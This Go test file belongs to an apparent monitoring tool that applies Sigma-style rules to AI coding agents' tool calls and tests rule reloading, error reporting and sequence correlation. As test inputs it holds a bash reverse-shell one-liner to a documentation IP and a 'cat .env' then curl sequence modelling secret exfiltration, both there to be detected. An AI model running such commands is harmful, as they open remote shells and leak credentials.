package app_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"gander/internal/alert"
	"gander/internal/app"
	"gander/internal/detect"
	"gander/internal/event"
	"gander/internal/journal"
	"gander/internal/journal/record"
	"gander/internal/rules"
)

const sequence = `
title: Read and sent
id: sequence
level: high
correlation: {type: temporal_ordered, rules: [env, sent], group-by: [session_id], timespan: 10m}
---
title: Environment file
name: env
level: low
logsource: {category: file_access}
detection: {s: {FileName|endswith: /.env}, condition: s}
---
title: Sent
name: sent
level: low
logsource: {category: proxy}
detection: {s: {cs-host|exists: true}, condition: s}
`

func writeRule(t *testing.T, conf, content string) {
	t.Helper()
	dir := filepath.Join(conf, "rules")
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "mine.yml"), []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
}

func bashAt(minute int, command string) *event.Event {
	return &event.Event{
		Kind: event.ToolCall, Action: event.Exec, Tool: "Bash", Agent: "claude-code", Session: "s", CWD: "/w", Command: command,
		CallID: command, Time: time.Date(2026, 11, 22, 10, minute, 0, 0, time.UTC),
	}
}

func raises(found []alert.Finding, id string) bool {
	for _, f := range found {
		if f.Rule.ID == id {
			return true
		}
	}
	return false
}

func TestChangedRulesAreTakenOverAndBadOnesAreNot(t *testing.T) {
	conf := t.TempDir()
	writeRule(t, conf, sequence)
	_, live, err := app.DetectorsFor(rules.Source{Config: conf})
	if err != nil {
		t.Fatal(err)
	}
	now := time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC)
	check := func() *event.Event {
		now = now.Add(11 * time.Second)
		return live.Check(now)
	}
	live.Detect(bashAt(0, "cat .env"))

	writeRule(t, conf, sequence+"---\ntitle: Broken\n")
	e := check()
	if e == nil {
		t.Fatal("nothing is said of the broken file")
	}
	found := live.Detect(e)
	if len(found) != 1 || found[0].Rule.ID != "gander.rules-unreadable" || !strings.Contains(found[0].Matches[0].Value, "mine.yml:19: ") {
		t.Errorf("found %+v", found)
	}
	if check() != nil {
		t.Error("the same fault is told twice")
	}

	writeRule(t, conf, sequence+"---\ntitle: New\nlogsource: {category: process_creation}\ndetection: {s: {Image|endswith: /new}, condition: s}\n")
	if e := check(); e != nil {
		t.Errorf("a sound file is a fault: %v", e.Faults)
	}
	if !raises(live.Detect(bashAt(1, "new")), "New") {
		t.Error("the new rule is not used")
	}
	if !raises(live.Detect(bashAt(2, "curl https://x.example")), "sequence") {
		t.Error("a correlation forgot what it knew when another rule changed")
	}
}

func TestBadRulesLeaveTheDefaultOnes(t *testing.T) {
	conf := t.TempDir()
	writeRule(t, conf, "title: Broken\n")
	live, err := app.NewLiveRules(rules.Source{Config: conf})
	if err != nil {
		t.Fatal(err)
	}
	if live.Check(time.Now()) == nil {
		t.Error("nothing is said")
	}
	if len(live.Detect(bashAt(0, "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"))) == 0 {
		t.Error("the default rules are not used")
	}
}

// TestAWatcherThatStartsAgainKnowsTheSequence records one half of a sequence,
// then asks a detector that was warmed up about the other.
func TestAWatcherThatStartsAgainKnowsTheSequence(t *testing.T) {
	conf, dir := t.TempDir(), t.TempDir()
	writeRule(t, conf, sequence)
	size := appendCall(t, dir, "cat .env")
	for _, tt := range []struct {
		name  string
		until journal.Pos
		want  bool
	}{
		{"up to the place it was at", journal.Pos{Segment: 1, Offset: size}, true},
		{"and no further", journal.Pos{Segment: 1, Offset: 1}, false},
		{"from the beginning there is nothing", journal.Pos{}, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			set, _, err := app.DetectorsFor(rules.Source{Config: conf})
			if err != nil {
				t.Fatal(err)
			}
			if err := app.WarmUp(dir, tt.until, set); err != nil {
				t.Fatal(err)
			}
			e := bashAt(0, "curl https://x.example")
			e.Time = time.Now()
			if got := raises(set.Detect(e), "sequence"); got != tt.want {
				t.Errorf("raised: %v", got)
			}
		})
	}
	if err := app.WarmUp(dir, journal.Pos{Segment: 1, Offset: size}, detect.Set{new(detect.Flood)}); err != nil {
		t.Error(err)
	}
}

// appendCall records a call and returns the size of the journal.
func appendCall(t *testing.T, dir, command string) int64 {
	t.Helper()
	payload, err := json.Marshal(map[string]any{
		"session_id": "s", "hook_event_name": "PreToolUse", "tool_use_id": "t1", "cwd": "/w",
		"tool_name": "Bash", "tool_input": map[string]string{"command": command},
	})
	if err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, record.Headroom+len(payload)+record.Tailroom)
	copy(buf[record.Headroom:], payload)
	h := record.Header{Time: time.Now(), Session: "s", Agent: "claude-code", Host: "h", PID: 1}
	if err := record.Append(journal.LivePath(dir), record.Frame(h, buf, len(payload)), nil); err != nil {
		t.Fatal(err)
	}
	st, err := os.Stat(journal.LivePath(dir))
	if err != nil {
		t.Fatal(err)
	}
	return st.Size()
}

func TestTheDocumentedRulesAreSound(t *testing.T) {
	doc, err := os.ReadFile("../../docs/rules.md")
	if err != nil {
		t.Fatal(err)
	}
	var all []string
	for block := range strings.SplitSeq(string(doc), "```yaml\n") {
		if text, _, ok := strings.Cut(block, "```"); ok && strings.HasPrefix(text, "title:") {
			all = append(all, text)
		}
	}
	path := filepath.Join(t.TempDir(), "doc.yml")
	if err := os.WriteFile(path, []byte(strings.Join(all, "---\n")), 0o600); err != nil {
		t.Fatal(err)
	}
	lint, err := app.LintRules(rules.Source{}, []string{path})
	if err != nil || lint.Rules != 4 || lint.Errors > 0 {
		t.Errorf("%+v, %v", lint, err)
	}
	test, err := app.TestRules(rules.Source{}, []string{path})
	if err != nil || test.Cases != 4 || len(test.Failures) > 0 {
		t.Errorf("%+v, %v", test, err)
	}
}

func TestADraftIsSound(t *testing.T) {
	for _, title := range []string{"A key", "it's: \"odd\" # and\nlong"} {
		path := filepath.Join(t.TempDir(), "draft.yml")
		if err := os.WriteFile(path, []byte(app.NewRule(title, time.Now())), 0o600); err != nil {
			t.Fatal(err)
		}
		lint, err := app.LintRules(rules.Source{}, []string{path})
		if err != nil || len(lint.Problems) > 0 {
			t.Errorf("%q: %+v, %v", title, lint, err)
		}
		test, err := app.TestRules(rules.Source{}, []string{path})
		if err != nil || test.Cases != 4 || len(test.Failures) > 0 {
			t.Errorf("%q: %+v, %v", title, test, err)
		}
	}
}
